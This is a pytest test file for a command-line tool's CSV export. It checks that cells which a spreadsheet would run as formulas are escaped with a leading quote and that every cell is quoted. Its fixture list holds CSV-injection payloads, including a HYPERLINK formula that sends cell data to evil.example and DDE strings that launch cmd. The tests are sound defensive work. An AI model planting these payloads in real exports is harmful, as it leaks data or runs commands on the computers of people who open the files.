"""CSV meant for spreadsheets (``screen --csv``, ``log --format csv``): a
cell a spreadsheet would run as a formula starts with a single quote, and
every cell is quoted (OWASP, CSV Injection)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from click.testing import CliRunner

from regsam_flow.cli import cli

from .cli_helpers import Cli, setup_area
from .test_cli_screen import HEADER, sample_rows, write

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
    "  =1+2",
]


def _records(text: str, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


def _every_cell_quoted(text: str, delimiter: str) -> None:
    for line in text.splitlines():
        if line:
            assert line.startswith('"') and line.endswith('"'), line


@pytest.mark.parametrize("delimiter", [",", ";"])
def test_screen_csv_neutralises_formulas(tmp_path: Path, delimiter: str) -> None:
    rows = sample_rows()
    for i, formula in enumerate(FORMULAS):  # the test's writer cannot quote a lone \r
        rows[i][HEADER.index("name")] = formula.replace("\r", "\t")
    rows[len(FORMULAS)][HEADER.index("district")] = "=1+2"
    path = write(tmp_path / "formulas.csv", rows)
    r = CliRunner().invoke(
        cli,
        ["screen", str(path), "--csv", "--csv-delimiter", delimiter],
        env={"REGSAM_FLOW_DB": None, "REGSAM_FLOW_JSON": None},
    )
    assert r.exit_code == 0, r.output
    _every_cell_quoted(r.stdout, delimiter)
    out = _records(r.stdout, delimiter)
    names = {row[2] for row in out[1:]}
    for formula in FORMULAS:  # cells are read stripped
        assert "'" + formula.replace("\r", "\t").strip() in names
    assert "'=1+2" in {row[3] for row in out[1:]}
    # numbers stay numbers
    assert all(row[0].isdigit() and row[4].isdigit() for row in out[1:])


def test_log_csv_neutralises_formulas_and_keeps_negative_numbers(
    db_url: str, tmp_path: Path
) -> None:
    c = Cli(db_url, tmp_path / "home")
    for n, reason in enumerate([*FORMULAS, "-5", "-12.5", "-12,5", "- 5"]):
        area = setup_area(c, f"area-{n}") if n == 0 else f"area-{n}"
        if n:
            c.ok("area", "create", area, "--name", f"Gebiet {n}")
            c.ok("area", "assign", area, "moderation", "mia")
        c.ok("transition", area, "cancel", "--reason", reason.strip() or reason, user="mia")
    r = c.ok("log", "--format", "csv", user="audrey")
    _every_cell_quoted(r.stdout, ",")
    out = _records(r.stdout)
    header, body = out[0], out[1:]
    reasons = [row[header.index("reason")] for row in body if row[header.index("reason")]]
    expected = ["'" + f.strip() for f in FORMULAS] + ["-5", "-12.5", "-12,5", "'- 5"]
    assert reasons == expected


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+2", "'=1+2"),
        ("\t=1+2", "'\t=1+2"),
        ("\r=1+2", "'\r=1+2"),
        ("\tplain", "'\tplain"),
        ("+49 89 1234", "'+49 89 1234"),
        ("@mia", "'@mia"),
        ("-5", "-5"),
        ("-0.25", "-0.25"),
        ("-1e3", "'-1e3"),
        ("-5-cmd", "'-5-cmd"),
        ("Hasenbergl-Nord", "Hasenbergl-Nord"),
        ("", ""),
        (42, "42"),
        (-3, "-3"),
        (None, ""),
    ],
)
def test_safe_cell(value: object, cell: str) -> None:
    from regsam_flow.csv_export import safe_cell

    assert safe_cell(value) == cell
